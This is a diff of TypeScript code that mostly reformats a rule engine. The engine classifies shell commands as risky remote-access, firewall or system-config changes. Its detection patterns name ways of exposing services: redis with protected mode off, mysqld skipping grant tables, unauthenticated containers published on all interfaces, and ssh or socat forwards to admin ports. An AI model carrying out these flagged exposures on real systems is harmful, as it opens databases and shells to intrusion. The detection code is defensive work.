 /** Loopback addresses: a port published or forwarded on them stays on this machine. */
 const LOOPBACK = /^(?:localhost|127(?:\.\d+){3}|\[?::1\]?)$/i;
 /** Ports of administration, remote-shell and database services: relayed from every interface, the network reaches them. */
-const ADMIN_PORT = /^(?:22|23|2375|2376|2379|3306|3389|5432|5900|5901|5984|6379|6443|8200|9200|9300|10250|11211|15672|27017|28017|1433|1521|5672|9042|7474|8086)$/;
+const ADMIN_PORT =
+  /^(?:22|23|2375|2376|2379|3306|3389|5432|5900|5901|5984|6379|6443|8200|9200|9300|10250|11211|15672|27017|28017|1433|1521|5672|9042|7474|8086)$/;
 /** Container environment settings that switch a database's or service's authentication off. */
-const AUTH_OFF_ENV = /^(?:POSTGRES_HOST_AUTH_METHOD=trust|MYSQL_ALLOW_EMPTY_PASSWORD=(?:yes|true|1)|MARIADB_ALLOW_EMPTY_ROOT_PASSWORD=(?:yes|true|1)|ALLOW_EMPTY_PASSWORD=(?:yes|true|1)|xpack\.security\.enabled=false|GF_AUTH_ANONYMOUS_ENABLED=true|GF_AUTH_DISABLE_LOGIN_FORM=true|JUPYTER_TOKEN=|DISABLE_SECURITY_PLUGIN=true|plugins\.security\.disabled=true|NEO4J_AUTH=none)$/i;
+const AUTH_OFF_ENV =
+  /^(?:POSTGRES_HOST_AUTH_METHOD=trust|MYSQL_ALLOW_EMPTY_PASSWORD=(?:yes|true|1)|MARIADB_ALLOW_EMPTY_ROOT_PASSWORD=(?:yes|true|1)|ALLOW_EMPTY_PASSWORD=(?:yes|true|1)|xpack\.security\.enabled=false|GF_AUTH_ANONYMOUS_ENABLED=true|GF_AUTH_DISABLE_LOGIN_FORM=true|JUPYTER_TOKEN=|DISABLE_SECURITY_PLUGIN=true|plugins\.security\.disabled=true|NEO4J_AUTH=none)$/i;
 /** Servers started with their protection switched off (flags joined with their values), by program. */
 const SERVER_OPENERS: { tool: RegExp; open: RegExp; unless?: RegExp }[] = [
   { tool: /^(?:redis-server|valkey-server|keydb-server)$/, open: /(?:^|\s)--protected-mode\s+no\b/ },
-  { tool: /^mongod$/, open: /(?:^|\s)(?:--bind_ip_all|--bind_ip[=\s]0\.0\.0\.0)(?:\s|$)/, unless: /(?:^|\s)--auth\b|--keyFile/ },
+  {
+    tool: /^mongod$/,
+    open: /(?:^|\s)(?:--bind_ip_all|--bind_ip[=\s]0\.0\.0\.0)(?:\s|$)/,
+    unless: /(?:^|\s)--auth\b|--keyFile/,
+  },
   { tool: /^(?:mysqld|mariadbd|mysqld_safe)$/, open: /(?:^|\s)--skip-grant-tables\b/ },
   { tool: /^memcached$/, open: /(?:^|\s)(?:-l\s*|--listen[=\s])0\.0\.0\.0\b/ },
   { tool: /^code-server$/, open: /(?:^|\s)--auth[=\s]none\b/, unless: /--bind-addr[=\s](?:127\.|localhost)/ },
@@ -3849,11 +5709,22 @@ const SERVER_OPENERS: { tool: RegExp; open: RegExp; unless?: RegExp }[] = [
 
 function judgeExposure(ctx: JudgeContext, name: string, texts: string[], words: string[]): void {
   const joined = texts.join(" ");
-  for (const s of SERVER_OPENERS) if (s.tool.test(name) && s.open.test(joined) && !(s.unless?.test(joined) ?? false)) return add(ctx, "remote_access");
+  for (const s of SERVER_OPENERS)
+    if (s.tool.test(name) && s.open.test(joined) && !(s.unless?.test(joined) ?? false))
+      return add(ctx, "remote_access");
   // A container whose authentication is switched off, published on every interface (`-p 5432:5432`, `-p 0.0.0.0:…`).
-  if (/^(?:docker|podman|nerdctl)$/.test(name) && (words[0] === "run" || words[0] === "create" || (words[0] === "container" && /^(?:run|create)$/.test(words[1] ?? "")))) {
-    const env = texts.filter((t, k) => /^(?:-e|--env)$/.test(texts[k - 1] ?? "") || /^--env=/.test(t)).map((t) => t.replace(/^--env=/, ""));
-    const published = texts.filter((t, k) => /^(?:-p|--publish)$/.test(texts[k - 1] ?? "") || /^--publish=|^-p\d/.test(t)).map((t) => t.replace(/^--publish=|^-p/, ""));
+  if (
+    /^(?:docker|podman|nerdctl)$/.test(name) &&
+    (words[0] === "run" ||
+      words[0] === "create" ||
+      (words[0] === "container" && /^(?:run|create)$/.test(words[1] ?? "")))
+  ) {
+    const env = texts
+      .filter((t, k) => /^(?:-e|--env)$/.test(texts[k - 1] ?? "") || /^--env=/.test(t))
+      .map((t) => t.replace(/^--env=/, ""));
+    const published = texts
+      .filter((t, k) => /^(?:-p|--publish)$/.test(texts[k - 1] ?? "") || /^--publish=|^-p\d/.test(t))
+      .map((t) => t.replace(/^--publish=|^-p/, ""));
     const everywhere =
       published.some((p) => {
         const f = p.split(":");
@@ -3865,29 +5736,80 @@ function judgeExposure(ctx: JudgeContext, name: string, texts: string[], words: 
     if (everywhere && env.some((e) => AUTH_OFF_ENV.test(e))) return add(ctx, "remote_access");
   }
   // A cluster service given a public load balancer (`kubectl patch svc X -p '{"spec":{"type":"LoadBalancer"}}'`, `expose --type=LoadBalancer`).
-  if (/^(?:kubectl|oc|k)$/.test(name) && /^(?:patch|expose|set|create)$/.test(words[0] ?? "") && (/"type"\s*:\s*"LoadBalancer"|type:\s*LoadBalancer/.test(joined) || /(?:^|\s)--type[=\s]LoadBalancer\b/.test(joined))) return add(ctx, "remote_access");
+  if (
+    /^(?:kubectl|oc|k)$/.test(name) &&
+    /^(?:patch|expose|set|create)$/.test(words[0] ?? "") &&
+    (/"type"\s*:\s*"LoadBalancer"|type:\s*LoadBalancer/.test(joined) ||
+      /(?:^|\s)--type[=\s]LoadBalancer\b/.test(joined))
+  )
+    return add(ctx, "remote_access");
   // ssh dynamic or local forwards bound to every interface (`-D 0.0.0.0:1080`, `-L *:8080:…`, `-g`, GatewayPorts).
   if (name === "ssh" || name === "autossh") {
-    const fwd = texts.flatMap((t, k) => (/^-[A-Za-z]*[DL]$/.test(t) && texts[k + 1] !== undefined ? [texts[k + 1]!] : /^-[DL]./.test(t) ? [t.slice(2)] : []));
-    const gateway = texts.some((t) => /^-[A-Za-z]*g[A-Za-z]*$/.test(t) && !/^-[A-Za-z]*[bcDEeFIiJLlmOopQRSWw]$/.test(t)) || /GatewayPorts[=\s]+(?:yes|clientspecified)/i.test(joined);
-    if (fwd.some((f) => /^(?:0\.0\.0\.0|\*|::|\[::\]|):\d/.test(f)) || (gateway && fwd.length)) return add(ctx, "remote_access");
+    const fwd = texts.flatMap((t, k) =>
+      /^-[A-Za-z]*[DL]$/.test(t) && texts[k + 1] !== undefined
+        ? [texts[k + 1]!]
+        : /^-[DL]./.test(t)
+          ? [t.slice(2)]
+          : [],
+    );
+    const gateway =
+      texts.some((t) => /^-[A-Za-z]*g[A-Za-z]*$/.test(t) && !/^-[A-Za-z]*[bcDEeFIiJLlmOopQRSWw]$/.test(t)) ||
+      /GatewayPorts[=\s]+(?:yes|clientspecified)/i.test(joined);
+    if (fwd.some((f) => /^(?:0\.0\.0\.0|\*|::|\[::\]|):\d/.test(f)) || (gateway && fwd.length))
+      return add(ctx, "remote_access");
   }
   // socat relaying a listener on every interface to a local administration or database port (`TCP-LISTEN:2222,fork TCP:127.0.0.1:22`).
   if (name === "socat") {
     const listen = texts.find((t) => /^TCP[46]?-LISTEN:/i.test(t));
-    const target = texts.find((t) => /^(?:TCP[46]?|TCP-CONNECT):(?:127(?:\.\d+){3}|localhost|\[?::1\]?|0\.0\.0\.0):\d+/i.test(t));
+    const target = texts.find((t) =>
+      /^(?:TCP[46]?|TCP-CONNECT):(?:127(?:\.\d+){3}|localhost|\[?::1\]?|0\.0\.0\.0):\d+/i.test(t),
+    );
     const port = target ? /:(\d+)(?:,|$)/.exec(target)?.[1] : undefined;
-    if (listen && !/,(?:bind|range)=(?:127\.|localhost|\[?::1)/i.test(listen) && port && ADMIN_PORT.test(port)) return add(ctx, "remote_access");
+    if (listen && !/,(?:bind|range)=(?:127\.|localhost|\[?::1)/i.test(listen) && port && ADMIN_PORT.test(port))
+      return add(ctx, "remote_access");
   }
   // VPNs and mesh networks joined, exit nodes and routes advertised, services funnelled to the internet.
-  if (name === "openvpn" && texts.some((t) => /^--(?:config|remote|client)$/.test(t) || /\.ovpn$/.test(t)) && !texts.some((t) => /^--(?:genkey|show-\S+|version|help)$/.test(t))) return add(ctx, "network_change");
-  if ((name === "wg-quick" && /^(?:up|down)$/.test(words[0] ?? "")) || (name === "wg" && /^(?:set|setconf|syncconf|addconf)$/.test(words[0] ?? ""))) return add(ctx, "network_change");
-  if (name === "tailscale" && ((/^(?:up|login|set)$/.test(words[0] ?? "") && texts.some((t) => /^--(?:advertise-exit-node|advertise-routes|exit-node|ssh)(?:=|$)/.test(t))) || (/^(?:funnel|serve)$/.test(words[0] ?? "") && !/^(?:status|reset|off)$/.test(words[1] ?? "")))) return add(ctx, "remote_access");
-  if ((name === "zerotier-cli" && words[0] === "join") || (name === "netbird" && words[0] === "up")) return add(ctx, "remote_access");
+  if (
+    name === "openvpn" &&
+    texts.some((t) => /^--(?:config|remote|client)$/.test(t) || /\.ovpn$/.test(t)) &&
+    !texts.some((t) => /^--(?:genkey|show-\S+|version|help)$/.test(t))
+  )
+    return add(ctx, "network_change");
+  if (
+    (name === "wg-quick" && /^(?:up|down)$/.test(words[0] ?? "")) ||
+    (name === "wg" && /^(?:set|setconf|syncconf|addconf)$/.test(words[0] ?? ""))
+  )
+    return add(ctx, "network_change");
+  if (
+    name === "tailscale" &&
+    ((/^(?:up|login|set)$/.test(words[0] ?? "") &&
+      texts.some((t) => /^--(?:advertise-exit-node|advertise-routes|exit-node|ssh)(?:=|$)/.test(t))) ||
+      (/^(?:funnel|serve)$/.test(words[0] ?? "") && !/^(?:status|reset|off)$/.test(words[1] ?? "")))
+  )
+    return add(ctx, "remote_access");
+  if ((name === "zerotier-cli" && words[0] === "join") || (name === "netbird" && words[0] === "up"))
+    return add(ctx, "remote_access");
   // System-wide defaults switched (`update-alternatives --set java …`, `alternatives --config python`): every user's command changes.
-  if (/^(?:update-alternatives|alternatives)$/.test(name) && texts.some((t) => /^--(?:set|install|remove|remove-all|config|auto|all|set-selections)$/.test(t))) return add(ctx, "system_config_write");
+  if (
+    /^(?:update-alternatives|alternatives)$/.test(name) &&
+    texts.some((t) => /^--(?:set|install|remove|remove-all|config|auto|all|set-selections)$/.test(t))
+  )
+    return add(ctx, "system_config_write");
   // Rules opened to every source address spelled `*`/`Internet`/`Any` (`--source-address-prefixes '*'`).
-  if (texts.some((t, k) => /^--?(?:source|src|remote|cidr|from|allowed|ip-?ranges?|source-address|source-address-prefix(?:es)?|source-ranges?|remote-ip|cidr-?blocks?)(?:[\w-]*)$/i.test(texts[k - 1] ?? "") && /^(?:\*|any|internet|0\.0\.0\.0(?:\/0)?|::\/0)$/i.test(t)) && words.some((w) => /^(?:create|add|update|set|allow|authorize|open|insert|append)$|^(?:authorize|add|create|update)-|rule|firewall|nsg|security/.test(w))) return add(ctx, "firewall_change");
+  if (
+    texts.some(
+      (t, k) =>
+        /^--?(?:source|src|remote|cidr|from|allowed|ip-?ranges?|source-address|source-address-prefix(?:es)?|source-ranges?|remote-ip|cidr-?blocks?)(?:[\w-]*)$/i.test(
+          texts[k - 1] ?? "",
+        ) && /^(?:\*|any|internet|0\.0\.0\.0(?:\/0)?|::\/0)$/i.test(t),
+    ) &&
+    words.some((w) =>
+      /^(?:create|add|update|set|allow|authorize|open|insert|append)$|^(?:authorize|add|create|update)-|rule|firewall|nsg|security/.test(
+        w,
+      ),
+    )
+  )
+    return add(ctx, "firewall_change");
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -3903,15 +5825,315 @@ const ELEVATED_RULE = true;
  */
 const ELEVATED_EXEMPT: Record<string, readonly string[]> = {
   // printing files, listings, searches
-  files: ["cat", "tac", "less", "more", "head", "tail", "ls", "ll", "dir", "tree", "stat", "file", "wc", "du", "df", "find", "fd", "locate", "realpath", "readlink", "basename", "dirname", "md5sum", "sha1sum", "sha256sum", "sha512sum", "b2sum", "cksum", "diff", "cmp", "grep", "egrep", "fgrep", "rg", "ag", "zcat", "zgrep", "zless", "xzcat", "bzcat", "strings", "hexdump", "xxd", "od", "jq", "column", "sort", "uniq", "cut", "tr", "nl", "fold", "fmt", "paste", "join", "comm", "test", "[", "true", "false", "echo", "printf", "sleep", "wait", "pwd", "cd"],
+  files: [
+    "cat",
+    "tac",
+    "less",
+    "more",
+    "head",
+    "tail",
+    "ls",
+    "ll",
+    "dir",
+    "tree",
+    "stat",
+    "file",
+    "wc",
+    "du",
+    "df",
+    "find",
+    "fd",
+    "locate",
+    "realpath",
+    "readlink",
+    "basename",
+    "dirname",
+    "md5sum",
+    "sha1sum",
+    "sha256sum",
+    "sha512sum",
+    "b2sum",
+    "cksum",
+    "diff",
+    "cmp",
+    "grep",
+    "egrep",
+    "fgrep",
+    "rg",
+    "ag",
+    "zcat",
+    "zgrep",
+    "zless",
+    "xzcat",
+    "bzcat",
+    "strings",
+    "hexdump",
+    "xxd",
+    "od",
+    "jq",
+    "column",
+    "sort",
+    "uniq",
+    "cut",
+    "tr",
+    "nl",
+    "fold",
+    "fmt",
+    "paste",
+    "join",
+    "comm",
+    "test",
+    "[",
+    "true",
+    "false",
+    "echo",
+    "printf",
+    "sleep",
+    "wait",
+    "pwd",
+    "cd",
+  ],
   // the system's state, printed
-  system: ["whoami", "id", "groups", "hostname", "hostnamectl", "uname", "uptime", "date", "free", "vmstat", "iostat", "mpstat", "sar", "nproc", "lscpu", "lspci", "lsusb", "lsblk", "blkid", "lsmod", "lsof", "lshw", "dmidecode", "ps", "pgrep", "pidof", "top", "htop", "atop", "w", "who", "last", "lastlog", "getent", "env", "printenv", "which", "type", "whereis", "command", "ss", "netstat", "ping", "traceroute", "tracepath", "mtr", "dig", "nslookup", "host", "arp", "route", "tcpdump", "nc", "curl", "wget", "openssl", "ssh-keygen", "ssh-keyscan", "timedatectl", "loginctl", "localectl", "systemd-analyze", "sensors", "smartctl", "nvidia-smi", "dmesg", "journalctl", "getenforce", "sestatus", "aa-status", "ulimit", "umask", "history"],
+  system: [
+    "whoami",
+    "id",
+    "groups",
+    "hostname",
+    "hostnamectl",
+    "uname",
+    "uptime",
+    "date",
+    "free",
+    "vmstat",
+    "iostat",
+    "mpstat",
+    "sar",
+    "nproc",
+    "lscpu",
+    "lspci",
+    "lsusb",
+    "lsblk",
+    "blkid",
+    "lsmod",
+    "lsof",
+    "lshw",
+    "dmidecode",
+    "ps",
+    "pgrep",
+    "pidof",
+    "top",
+    "htop",
+    "atop",
+    "w",
+    "who",
+    "last",
+    "lastlog",
+    "getent",
+    "env",
+    "printenv",
+    "which",
+    "type",
+    "whereis",
+    "command",
+    "ss",
+    "netstat",
+    "ping",
+    "traceroute",
+    "tracepath",
+    "mtr",
+    "dig",
+    "nslookup",
+    "host",
+    "arp",
+    "route",
+    "tcpdump",
+    "nc",
+    "curl",
+    "wget",
+    "openssl",
+    "ssh-keygen",
+    "ssh-keyscan",
+    "timedatectl",
+    "loginctl",
+    "localectl",
+    "systemd-analyze",
+    "sensors",
+    "smartctl",
+    "nvidia-smi",
+    "dmesg",
+    "journalctl",
+    "getenforce",
+    "sestatus",
+    "aa-status",
+    "ulimit",
+    "umask",
+    "history",
+  ],
   // programs whose effects the rules above read (removals, deletes, writes, service and system changes)
-  judged: ["rm", "rmdir", "unlink", "shred", "cp", "mv", "ln", "install", "rsync", "scp", "tee", "dd", "truncate", "touch", "mkdir", "chmod", "chown", "chgrp", "chattr", "setfacl", "sed", "awk", "gawk", "tar", "unzip", "gzip", "gunzip", "xz", "zip", "kill", "pkill", "killall", "systemctl", "service", "mount", "umount", "iptables", "ip6tables", "nft", "ufw", "firewall-cmd", "ip", "sysctl", "modprobe", "crontab", "useradd", "usermod", "userdel", "groupadd", "groupdel", "passwd", "chpasswd", "visudo", "git", "docker", "podman", "kubectl", "helm", "psql", "mysql", "sqlite3", "redis-cli", "mongosh", "ssh", "tmux", "screen", "timeout", "nice", "xargs", "parallel", "update-alternatives", "certbot", "su", "runuser", "zfs", "zpool", "cryptsetup", "hwclock", "wg", "wg-quick", "openvpn", "tailscale", "grubby", "losetup", "auditctl", "semanage", "setenforce", "mdadm", "parted", "fdisk", "sfdisk", "wipefs", "mkfs", "mkswap", "swapoff", "swapon", "efibootmgr", "grub-install", "update-grub", "setcap", "chronyc", "ntpdate", "at", "atrm", "virsh", "lxc", "incus"],
+  judged: [
+    "rm",
+    "rmdir",
+    "unlink",
+    "shred",
+    "cp",
+    "mv",
+    "ln",
+    "install",
+    "rsync",
+    "scp",
+    "tee",
+    "dd",
+    "truncate",
+    "touch",
+    "mkdir",
+    "chmod",
+    "chown",
+    "chgrp",
+    "chattr",
+    "setfacl",
+    "sed",
+    "awk",
+    "gawk",
+    "tar",
+    "unzip",
+    "gzip",
+    "gunzip",
+    "xz",
+    "zip",
+    "kill",
+    "pkill",
+    "killall",
+    "systemctl",
+    "service",
+    "mount",
+    "umount",
+    "iptables",
+    "ip6tables",
+    "nft",
+    "ufw",
+    "firewall-cmd",
+    "ip",
+    "sysctl",
+    "modprobe",
+    "crontab",
+    "useradd",
+    "usermod",
+    "userdel",
+    "groupadd",
+    "groupdel",
+    "passwd",
+    "chpasswd",
+    "visudo",
+    "git",
+    "docker",
+    "podman",
+    "kubectl",
+    "helm",
+    "psql",
+    "mysql",
+    "sqlite3",
+    "redis-cli",
+    "mongosh",
+    "ssh",
+    "tmux",
+    "screen",
+    "timeout",
+    "nice",
+    "xargs",
+    "parallel",
+    "update-alternatives",
+    "certbot",
+    "su",
+    "runuser",
+    "zfs",
+    "zpool",
+    "cryptsetup",
+    "hwclock",
+    "wg",
+    "wg-quick",
+    "openvpn",
+    "tailscale",
+    "grubby",
+    "losetup",
+    "auditctl",
+    "semanage",
+    "setenforce",
+    "mdadm",
+    "parted",
+    "fdisk",
+    "sfdisk",
+    "wipefs",
+    "mkfs",
+    "mkswap",
+    "swapoff",
+    "swapon",
+    "efibootmgr",
+    "grub-install",
+    "update-grub",
+    "setcap",
+    "chronyc",
+    "ntpdate",
+    "at",
+    "atrm",
+    "virsh",
+    "lxc",
+    "incus",
+  ],
   // read-only tools of storage, firewall and security stacks
-  storage: ["lvs", "vgs", "pvs", "lvdisplay", "vgdisplay", "pvdisplay", "lvscan", "vgscan", "pvscan", "iptables-save", "ip6tables-save", "ebtables-save", "flash_info", "mtdinfo", "ausearch", "aureport", "fail2ban-client", "sestatus", "getsebool", "showmount", "exportfs", "findmnt", "mountpoint", "quota", "repquota"],
+  storage: [
+    "lvs",
+    "vgs",
+    "pvs",
+    "lvdisplay",
+    "vgdisplay",
+    "pvdisplay",
+    "lvscan",
+    "vgscan",
+    "pvscan",
+    "iptables-save",
+    "ip6tables-save",
+    "ebtables-save",
+    "flash_info",
+    "mtdinfo",
+    "ausearch",
+    "aureport",
+    "fail2ban-client",
+    "sestatus",
+    "getsebool",
+    "showmount",
+    "exportfs",
+    "findmnt",
+    "mountpoint",
+    "quota",
+    "repquota",
+  ],
   // package managers: removals are read; installs add software the task asked for
-  packages: ["apt", "apt-get", "apt-cache", "aptitude", "dpkg", "dnf", "yum", "rpm", "zypper", "pacman", "apk", "snap", "flatpak", "brew", "port", "pip", "pip3", "npm", "pnpm", "yarn", "gem", "cargo", "go", "conda"],
+  packages: [
+    "apt",
+    "apt-get",
+    "apt-cache",
+    "aptitude",
+    "dpkg",
+    "dnf",
+    "yum",
+    "rpm",
+    "zypper",
+    "pacman",
+    "apk",
+    "snap",
+    "flatpak",
+    "brew",
+    "port",
+    "pip",
+    "pip3",
+    "npm",
+    "pnpm",
+    "yarn",
+    "gem",
+    "cargo",
+    "go",
+    "conda",
+  ],
 };
 const EXEMPT_NAMES = new Set(Object.values(ELEVATED_EXEMPT).flat());
 
